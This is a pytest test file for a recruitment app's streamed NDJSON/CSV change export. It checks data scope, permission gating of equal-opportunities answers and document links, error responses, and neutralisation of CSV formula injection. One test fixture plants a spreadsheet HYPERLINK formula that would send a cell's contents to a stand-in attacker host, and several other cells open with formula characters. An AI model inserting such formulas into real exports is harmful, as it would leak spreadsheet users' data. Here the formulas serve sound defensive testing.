"""The streamed change export (NDJSON and CSV): the paged export's rows, scope, permissions and equal-opportunities
rule, in one answer; CSV cells safe from formula injection."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.utils import timezone

from recruitment.api.exports import neutralise_cells
from recruitment.api.serializers.applications import FLAT_COLUMNS, FLAT_EQUAL_OPPORTUNITIES_COLUMNS
from tests.api.conftest import grant, make_partner
from tests.factories import (
    AdvertisedVacancyFactory,
    ApplicationDocumentFactory,
    ApplicationFactory,
    CandidateFactory,
    DivisionFactory,
    EqualOpportunitiesFactory,
)

NDJSON = "/api/v1/exports/changes.ndjson"
CSV = "/api/v1/exports/changes.csv"
PAGED = "/api/v1/exports/changes/"


def streamed(response) -> bytes:
    assert response.status_code == 200, response.content
    assert response.streaming
    return b"".join(response.streaming_content)


def ndjson_rows(response) -> list[dict]:
    return [json.loads(line) for line in streamed(response).decode().splitlines()]


def csv_rows(response) -> tuple[list[str], list[dict]]:
    reader = csv.DictReader(io.StringIO(streamed(response).decode(), newline=""))
    return list(reader.fieldnames or []), list(reader)


def paged_results(client, since: str) -> list[dict]:
    rows, url = [], f"{PAGED}?page_size=2&since={since}"
    while url:
        body = client.get(url).json()
        rows += body["results"]
        url = body["next"]
    return rows


@pytest.fixture
def changes(partner):
    """Three applications in the partner's division (one with both documents and EO answers), one older than the
    window, and one in another division."""
    vacancy = AdvertisedVacancyFactory(division=partner.division)
    recent = ApplicationFactory.create_batch(3, vacancy=vacancy)
    ApplicationDocumentFactory(application=recent[0], kind="cv")
    ApplicationDocumentFactory(application=recent[0], kind="cover_letter")
    EqualOpportunitiesFactory(application=recent[0], ethnicity="white_irish")
    ApplicationFactory(vacancy=vacancy, stage_changed_at=timezone.now() - timedelta(days=3))
    ApplicationFactory(vacancy=AdvertisedVacancyFactory(division=DivisionFactory()))
    return recent


def test_ndjson_lines_are_the_paged_exports_rows_in_scope(partner, changes):
    since = (timezone.now() - timedelta(hours=1)).isoformat().replace("+00:00", "Z")
    response = partner.client.get(NDJSON, {"since": since})
    assert response["Content-Type"] == "application/x-ndjson"
    assert response["Content-Disposition"].startswith('attachment; filename="changes-since-')
    assert response["Cache-Control"] == "no-store"
    rows = ndjson_rows(response)
    assert rows == paged_results(partner.client, since)
    assert [row["id"] for row in rows] == [application.pk for application in changes]


def test_ndjson_documents_are_links_in_kind_order(partner, changes):
    [first, *_] = ndjson_rows(partner.client.get(NDJSON))
    assert [(d["kind"], d["url"]) for d in first["documents"]] == [
        ("cover_letter", f"http://testserver/api/v1/applications/{changes[0].pk}/documents/cover_letter/"),
        ("cv", f"http://testserver/api/v1/applications/{changes[0].pk}/documents/cv/"),
    ]
    assert "content" not in first["documents"][0]


def test_csv_has_a_header_and_a_row_per_application_in_scope(partner, changes):
    response = partner.client.get(CSV)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith('.csv"')
    header, rows = csv_rows(response)
    assert header == list(FLAT_COLUMNS)
    assert [int(row["id"]) for row in rows] == [application.pk for application in changes]
    first = rows[0]
    assert first["candidate_email"] == changes[0].candidate.email
    assert first["job_reference"] == changes[0].vacancy.reference
    assert first["cv_url"] == f"http://testserver/api/v1/applications/{changes[0].pk}/documents/cv/"
    assert first["cover_letter_url"].endswith("/documents/cover_letter/")
    assert rows[1]["cv_url"] == ""
    assert first["partner_client"] == ""


def flat(obj: dict, columns: list[str]) -> dict:
    """An NDJSON object as the CSV should have it: nested keys joined by "_", documents as `<kind>_url`."""
    cells = {key: value for key, value in obj.items() if not isinstance(value, dict | list)}
    for key in ("candidate", "job", "equal_opportunities"):
        cells.update({f"{key}_{name}": value for name, value in (obj[key] or {}).items()})
    cells.update({f"{document['kind']}_url": document["url"] for document in obj["documents"]})
    return {column: "" if cells.get(column) is None else str(cells[column]) for column in columns}


@pytest.mark.parametrize("eo", [True, False], ids=["answers", "no-answers"])
def test_csv_rows_are_the_ndjson_objects_flat(partner, changes, eo):
    if eo:
        grant(partner.user, "view_equalopportunities")
    objects = ndjson_rows(partner.client.get(NDJSON))
    header, rows = csv_rows(partner.client.get(CSV))
    assert rows == [flat(obj, header) for obj in objects]


@pytest.mark.parametrize("path", [NDJSON, CSV])
def test_equal_opportunities_never_appear_without_their_permission(partner, changes, path):
    body = streamed(partner.client.get(path))
    assert b"white_irish" not in body
    assert b"equal_opportunities_" not in body
    if path == NDJSON:
        assert all(row["equal_opportunities"] is None for row in map(json.loads, body.splitlines()))


def test_equal_opportunities_appear_with_their_permission(partner, changes):
    grant(partner.user, "view_equalopportunities")
    [first, second, _] = ndjson_rows(partner.client.get(NDJSON))
    assert first["equal_opportunities"]["ethnicity"] == "white_irish"
    assert second["equal_opportunities"] is None
    header, rows = csv_rows(partner.client.get(CSV))
    assert header == [*FLAT_COLUMNS, *FLAT_EQUAL_OPPORTUNITIES_COLUMNS]
    assert rows[0]["equal_opportunities_ethnicity"] == "white_irish"
    assert rows[1]["equal_opportunities_ethnicity"] == ""


@pytest.mark.parametrize("path", [NDJSON, CSV])
def test_documents_are_not_listed_without_their_permission(db, path):
    partner = make_partner(permissions=("view_application",))
    application = ApplicationFactory(vacancy=AdvertisedVacancyFactory(division=partner.division))
    ApplicationDocumentFactory(application=application, kind="cv")
    body = streamed(partner.client.get(path))
    assert b"/documents/" not in body


@pytest.mark.parametrize("path", [NDJSON, CSV])
def test_the_export_needs_the_view_application_permission(db, path):
    partner = make_partner(permissions=("view_vacancy",))
    response = partner.client.get(path, HTTP_ACCEPT="text/csv")
    assert response.status_code == 403
    assert response["Content-Type"] == "application/problem+json"


@pytest.mark.parametrize("path", [NDJSON, CSV])
def test_the_export_needs_a_token(client, db, path):
    response = client.get(path)
    assert response.status_code == 401
    assert response["Content-Type"] == "application/problem+json"


@pytest.mark.parametrize("path", [NDJSON, CSV])
def test_a_bad_since_is_a_400_problem_whatever_the_accept_header(partner, path):
    response = partner.client.get(path, {"since": "yesterday"}, HTTP_ACCEPT="application/x-ndjson, text/csv")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    assert response.json()["errors"][0]["field"] == "since"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_is_prefixed_with_a_quote(start):
    assert neutralise_cells([f"{start}SUM(A1:A9)"]) == [f"'{start}SUM(A1:A9)"]


@pytest.mark.parametrize("value", ["Amara", "07700 900123", "", "a=b", " =1", "'quoted", -1, None])
def test_other_cells_are_left_as_they_are(value):
    assert neutralise_cells([value]) == [value]


def test_csv_cells_from_the_database_are_neutralised(partner):
    candidate = CandidateFactory(
        first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")', last_name="+44 7700", phone="-1", town="@SUM(1)"
    )
    ApplicationFactory(
        candidate=candidate,
        vacancy=AdvertisedVacancyFactory(division=partner.division),
        cover_letter="\tI would love to join.",
        source_name="\rBoard",
    )
    _, [row] = csv_rows(partner.client.get(CSV))
    assert row["candidate_first_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert row["candidate_last_name"] == "'+44 7700"
    assert row["candidate_phone"] == "'-1"
    assert row["candidate_town"] == "'@SUM(1)"
    assert row["cover_letter"] == "'\tI would love to join."
    assert row["source_name"] == "'\rBoard"
    assert row["candidate_postcode"] == candidate.postcode  # an ordinary cell is left alone
    # NDJSON carries the values as they are: it is no spreadsheet's input.
    [line] = ndjson_rows(partner.client.get(NDJSON))
    assert line["candidate"]["first_name"] == candidate.first_name
